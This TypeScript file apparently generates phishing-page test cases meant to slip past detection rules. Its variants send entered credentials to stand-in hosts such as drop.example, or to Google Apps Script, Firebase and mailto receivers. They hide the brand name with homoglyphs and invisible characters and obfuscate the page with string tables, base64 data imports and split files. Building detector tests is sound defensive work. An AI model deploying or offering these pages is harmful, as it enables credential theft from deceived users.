import type { Files } from "./given-draft.ts"
import type { PhishingPage } from "./phishing-page.ts"
import type { Trick } from "./phishing-tricks.ts"
import { base64, documentOf, form, quoted, render } from "./render.ts"

const index = (html: string): Files => ({ "index.html": html })
const script = (code: string) => `<script>${code}</script>`
const body = (page: PhishingPage) => page.top + form(page, `id="f" method="post"`) + page.foot
const named = (page: PhishingPage, to: (name: string) => string): PhishingPage => {
  const change = (text: string) => text.replaceAll(page.brand.name, to(page.brand.name))
  return { ...page, title: change(page.title), top: change(page.top), foot: change(page.foot) }
}
const plain = (page: PhishingPage) => page.brand.name.toLowerCase().replaceAll(/[^a-z0-9]/gu, "")
const like: Readonly<Record<string, string>> = { o: "0", l: "1", i: "l", m: "rn", e: "3", a: "4" }

/** Ideas that the rules were not written against: the first part. */
export const firstUnseenTricks: Readonly<Record<string, Trick>> = {
  "only a picture": (page) => ({
    "index.html": documentOf(
      { ...page, title: "Document" },
      `<form method="post" action="a.php">${page.fields.replaceAll(/<label>[^<]*|<\/label>/gu, "").replaceAll(/(?:placeholder|aria-label)="[^"]*"/gu, "")}</form>`,
      `<link rel="icon" href="img/${plain(page)}.ico"><style>body{background:url(img/${plain(page)}-login.png) no-repeat}form{position:absolute;top:312px;left:440px}input{opacity:.9;border:0}</style>`,
    ),
    [`img/${plain(page)}-login.png`]: new Uint8Array([137, 80, 78, 71, 13, 10]),
  }),
  "fields that are no inputs": (page) =>
    index(
      documentOf(
        page,
        `${page.top}${page.fields.replaceAll(/<(?:input|textarea)[^>]*?(?:placeholder="([^"]*)")?[^>]*>/gu, (_, label: string | undefined) => `<div contenteditable="true" class="in">${label ?? ""}</div>`).replaceAll("</textarea>", "")}${page.foot}${script(`document.querySelector("button").onclick=()=>{const v=[...document.querySelectorAll("[contenteditable]")].map(e=>e.innerText);fetch("https://drop.example/c",{method:"POST",mode:"no-cors",body:JSON.stringify(v)})}`)}`,
        `<style>.in{-webkit-text-security:disc;border:1px solid #ccc}</style>`,
      ),
    ),
  "bound by Vue": (page) => ({
    "index.html": documentOf(
      page,
      `<div id="app">${page.top}<form @submit.prevent="send">${page.fields.replaceAll(`type="password"`, `:type="seen ? 'text' : 'password'"`).replaceAll(/name="([a-z0-9]+)"/gu, `v-model="m.$1"`)}</form>${page.foot}</div><script src="https://unpkg.com/vue@3"></script><script src="app.js"></script>`,
    ),
    "app.js": `Vue.createApp({data:()=>({m:{},seen:false}),methods:{async send(){await axios.post(this.$el.dataset.u||"https://x1.collector.example/v",this.m);location="https://${page.brand.assets}"}}}).mount("#app")`,
  }),
  "bound by Angular": (page) => ({
    "index.html": `<!doctype html><html><head><base href="./"><title>${page.title}</title></head><body><app-root></app-root><script src="main.js" type="module"></script></body></html>`,
    "main.js": `var C=class{constructor(){this.form=new F({})}submit(){this.http.post("/gate",this.form.value).subscribe()}static{this.\u0275cmp=D({type:C,selectors:[["app-root"]],template:function(t,c){if(t&1){E(0,"div");E(1,"h1");T(2,${quoted(page.top.replaceAll(/<[^>]*>/gu, " "))});X()();E(3,"form");L("ngSubmit",function(){return c.submit()});${page.fields.includes("password") ? `E(4,"input",["type","password","formControlName","p","placeholder",${quoted(page.words.password)}])` : `E(4,"input",["formControlName","c","placeholder",${quoted(page.fields.includes("textarea") ? page.words.seed : page.fields.includes("MM") ? page.words.card : page.words.code)}])`};E(5,"button");T(6,${quoted(page.words.submit)});X()()}}})}};`,
  }),
  "sent by attributes": (page) =>
    index(
      documentOf(
        page,
        page.top +
          form(page, `hx-post="https://hx-${plain(page)}.pages.example/in" hx-swap="none"`) +
          page.foot +
          `<script src="https://unpkg.com/htmx.org@2"></script>`,
      ),
    ),
  "a form far from its fields": (page) =>
    index(
      documentOf(
        page,
        `<form id="zz" action="https://go.drop.example/" method="post"></form>${page.top}${page.fields.replaceAll("<input", `<input form="zz"`).replaceAll("<button", `<button form="zz"`)}${page.foot}`,
      ),
    ),
  "asked in a prompt": (page) =>
    index(
      documentOf(
        page,
        `${page.top}${script(`window.onload=function(){var a=prompt(${quoted(page.words.user)});var b=prompt(${quoted(`${page.brand.name}: ${page.words.password}`)});location.href="https://drop.example/?"+btoa(a+":"+b)}`)}`,
      ),
    ),
  "a kit of three pages": (page) => ({
    "index.html": `<!doctype html><html lang="${page.lang}"><head><title>${page.brand.name}</title></head><body>${page.top}<form action="step2.html"><input name="id" placeholder="${page.words.user}"><button>${page.words.submit}</button></form></body></html>`,
    "step2.html": `<!doctype html><html><head><title>…</title><script src="s.js"></script></head><body><form action="step3.html" onsubmit="keep(this)">${page.fields}</form></body></html>`,
    "step3.html": `<!doctype html><html><body><div class="spinner"></div><script src="s.js"></script><script>flush()</script></body></html>`,
    "s.js": `function keep(f){sessionStorage.d=JSON.stringify([...new FormData(f)])}function flush(){new Image().src="//l.drop.example/?"+encodeURIComponent(sessionStorage.d);setTimeout(()=>location="https://${page.brand.assets}",900)}`,
  }),
  "name backwards by CSS": (page) =>
    index(
      render(
        named(
          page,
          (name) =>
            `<bdo dir="rtl" style="unicode-bidi:bidi-override;direction:rtl">${[...name].reverse().join("")}</bdo>`,
        ),
        { form: `action="r.php" method="post"` },
      ).replace(/<title>.*?<\/title>/u, `<title>${page.words.signIn}</title>`),
    ),
  "letters between that are not seen": (page) =>
    index(
      render(
        named(page, (name) => [...name].join(`<i style="display:none">q</i>`)),
        { form: `action="check.php" method="post"` },
      ).replace(/<title>.*?<\/title>/u, `<title>${page.words.signIn}</title>`),
    ),
  "digits for letters": (page) =>
    index(
      render(
        named(page, (name) => [...name].map((letter) => like[letter] ?? letter).join("")),
        { form: `action="login_post.php" method="post"` },
      ),
    ),
  "soft hyphens and joiners": (page) =>
    index(
      render(
        named(page, (name) => [...name].join("&shy;&#8288;")),
        { form: `action="/p" method="post"` },
      ),
    ),
  "a window in the window": (page) =>
    index(
      documentOf(
        { ...page, title: "Photos" },
        `<h1>Family photos</h1><div class="win"><div class="bar"><span class="x">✕</span><span class="url">🔒 https://login.${plain(page)}.com/oauth2/authorize?client_id=1</span></div><div class="view">${body(page)}</div></div>${script(`f.onsubmit=e=>{e.preventDefault();fetch("https://drop.example/o",{method:"POST",body:new FormData(f)})}`)}`,
      ),
    ),
  "string table": (page) => {
    const table = [page.title, page.top, `<form id="f">`, page.fields, "</form>", page.foot, "innerHTML", "body"]
    const turned = [...table.slice(3), ...table.slice(0, 3)]
    return index(
      `<!doctype html><html><head></head><body>${script(`var _0x3af1=${JSON.stringify(turned).replaceAll("</", String.raw`<\/`)};(function(a,n){while(--n)a.push(a.shift())})(_0x3af1,0x6);var _0x1=function(i){return _0x3af1[i-0x1f0]};document[_0x1(0x1f7)][_0x1(0x1f6)]=_0x1(0x1f1)+_0x1(0x1f2)+_0x1(0x1f3)+_0x1(0x1f4)+_0x1(0x1f5)`)}</body></html>`,
    )
  },
  "code from a data address": (page) =>
    index(
      `<!doctype html><script type="module">import("data:text/javascript;base64,${base64(`document.documentElement.innerHTML=${quoted(`<title>${page.title}</title>${body(page)}`)}`)}")</script>`,
    ),
  "halves in two files": (page) => {
    const text = base64(`<title>${page.title}</title>${body(page)}`)
    const half = Math.ceil(text.length / 2)
    return {
      "index.html": `<!doctype html><body><script src="1.js"></script><script src="2.js"></script>${script("document.body.innerHTML=decodeURIComponent(escape(atob(a+b)))")}`,
      "1.js": `const a="${text.slice(0, half)}"`,
      "2.js": `const b="${text.slice(half)}"`,
    }
  },
  "texts by key": (page) => ({
    "index.html": documentOf(
      { ...page, title: "…" },
      `<h1 data-i18n="h"></h1><p data-i18n="n"></p><form action="/x" method="post">${page.fields.replaceAll(/placeholder="[^"]*"/gu, "")}</form><script src="lang.js"></script>`,
    ),
    "lang.js": `const T={${page.lang}:{t:${quoted(page.title)},h:${quoted(page.top.replaceAll(/<[^>]*>/gu, " ").trim() || page.brand.name)},n:${quoted(`${page.brand.name} - ${page.words.notice}`)}}};const l=T[navigator.language.slice(0,2)]||T.${page.lang};document.title=l.t;for(const e of document.querySelectorAll("[data-i18n]"))e.textContent=l[e.dataset.i18n]`,
  }),
  "name drawn": (page) =>
    index(
      documentOf(
        { ...page, title: page.words.signIn },
        `<svg width="200" height="40" viewBox="0 0 200 40"><text x="0" y="30" font-weight="700">${page.brand.name}</text></svg>${form(page, `action="https://in.drop.example/s" method="post"`)}`,
      ),
    ),
  "old frames": (page) => ({
    "index.html": `<html><head><title>${page.title}</title></head><frameset rows="80,*" border="0"><frame src="top.htm"><frame src="main.htm"></frameset></html>`,
    "top.htm": `<html><body>${page.top}</body></html>`,
    "main.htm": `<html><body>${form(page, `action="send.asp" method="post"`)}${page.foot}</body></html>`,
  }),
  "a sheet as receiver": (page) =>
    index(
      render(page, {
        form: `action="https://script.google.com/macros/s/AKfycbx1/exec" method="POST" target="hid"`,
        end: `<iframe name="hid" hidden></iframe>`,
      }),
    ),
  "a database as receiver": (page) =>
    index(
      documentOf(
        page,
        `${body(page)}${script(`f.addEventListener("submit",async e=>{e.preventDefault();await fetch("https://site-4411-default-rtdb.firebaseio.com/rows.json",{method:"POST",body:JSON.stringify(Object.fromEntries(new FormData(f)))});location="https://${page.brand.assets}"})`)}`,
      ),
    ),
  "mail as receiver": (page) =>
    index(render(page, { form: `action="mailto:box77@mail.example" method="post" enctype="text/plain"` })),
}
